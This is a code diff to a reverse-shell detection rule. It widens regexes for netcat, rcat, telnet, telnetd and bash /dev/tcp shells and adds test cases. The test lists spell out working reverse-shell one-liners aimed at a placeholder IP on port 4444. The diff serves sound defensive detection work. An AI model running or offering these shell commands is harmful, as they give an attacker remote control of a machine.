@@ -3,7 +3,7 @@ import type { Candidate, Rule } from '../../rule.js';
 
 /** No command, `:`, `true` or `echo` by itself, in front of the redirection. */
 const NOTHING_SENT =
-  /(?:^|["'`;&|{\n]|(?<!\$)\(|(?<![\w.-])(?:if|until|while|do|then|!|timeout\s\d+)\s)[ \t]*(?:(?:echo(?:\s+-n)?|:|true|cat\s*<\s*\/dev\/null|printf\s+(?:""|''))\s*)?(?:\d?>{1,2}\s*\/dev\/null\s*)?(?:<|>{1,2})\s*$/;
+  /(?:^|["'`;|{\n]|&(?!>)|(?<!\$)\(|(?<![\w.-])(?:if|until|while|do|then|!|timeout\s\d+)\s)[ \t]*(?:(?:echo(?:\s+-n)?|:|true|cat\s*<\s*\/dev\/null|printf\s+(?:""|''))\s*)?(?:\d?>{1,2}\s*\/dev\/null\s*)?(?:<|&?>{1,2})\s*$/;
 /** The name of the pseudo-device in bash's own manual. */
 const NAMED = /^\/dev\/(?:tcp|udp)\/host\/port$/i;
 /** A shell is in the same command, before or behind a pipe: `</dev/tcp/host/80 bash`, `| sh`. */
@@ -42,7 +42,7 @@ export const rule: Rule = {
       accept: (candidate) => isMoreThanProbe(candidate) && isComplete(candidate),
     },
     {
-      re: /(?<![\w-])(?:nc|ncat|netcat|nc\.(?:exe|openbsd|traditional)|ncat\.exe|rcat|rustcat)\s[^\n|;&]*(?:-\w*[ec]|--exec|--sh-exec|-s)\s*["'=]?\s*(?:\/[\w./-]*\/)?(?:(?:ba|z|k|da|a|c)?sh|cmd|powershell|pwsh)(?![\w-])/,
+      re: /(?<![\w-])(?:nc|ncat|netcat|nc\.(?:exe|openbsd|traditional)|ncat\.exe|rcat|rustcat)\s[^\n|;&]*(?:-\w*[ec]|--exec|--sh-exec|-[rs])\s*["'=]?\s*(?:\/[\w./-]*\/)?(?:env\s+)?(?:\w{0,4}sh|cmd|powershell)(?![\w-])/,
       window: 300,
       accept: isComplete,
     },
@@ -55,10 +55,10 @@ export const rule: Rule = {
     },
     { re: /(?<![\w-])ztcp\s+(?:-\w+\s+)*[\w.$-]+\s+[\d$]/ },
     {
-      re: /(?<![\w-])telnet\s[^\n|]*\|\s*(?:\/[\w./-]*\/)?(?:ba|z|k|da)?sh\s*(?:-i\s*)?\|\s*telnet/,
+      re: /(?<![\w-])telnet\s[^\n|]*\|\s*(?:\/[\w./-]*\/)?(?:env\s+)?(?:\w{0,4}sh|powershell)\s*(?:-i\s*)?\|\s*telnet/,
       window: 300,
     },
-    { re: /(?<![\w.-])telnetd\s[^\n;|&]*-l\s*\/bin\/(?:ba|a)?sh(?![\w-])/, window: 120 },
+    { re: /(?<![\w.-])telnetd\s[^\n;|&]*-l\s*(?:\/(?:usr\/)?bin\/)?\w{0,3}sh(?![\w-])/, window: 120 },
     { re: /\/inet\/(?:tcp|udp)\/0\/[\w."$-]{1,80}\/["\d$]/ },
     { re: /(?<![\w-])xterm\s+-display\s+[\w.]+:\d/ },
     {
@@ -71,6 +71,9 @@ export const rule: Rule = {
     fires: [
       'nc 203.0.113.7 4444 -e /bin/sh # {{shell}}',
       'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
+      'setsid bash -i &> /dev/tcp/203.0.113.7/4444 <&1',
+      'nc -e tcsh 203.0.113.7 4444',
+      'rcat 203.0.113.7 4444 -r /usr/bin/env bash',
       'exec 5<>/dev/tcp/$RHOST/$RPORT',
       'sh </dev/tcp/203.0.113.7/4444',
       'eval "$(</dev/tcp/203.0.113.7/4444)"',
@@ -95,6 +98,7 @@ export const rule: Rule = {
       'socat tcp-l:8080,reuseaddr,fork exec:"answer.sh",nofork',
       'until printf "" 2>>/dev/null >>/dev/tcp/127.0.0.1/6443; do sleep 1; done',
       'nc -zv host.example 443',
+      'timeout 1 bash -c "echo &>/dev/tcp/db/5432"',
       'mkfifo {{path/to/pipe}}',
       'echo hello | nc -w 1 host 9',
       '/dev/tty',
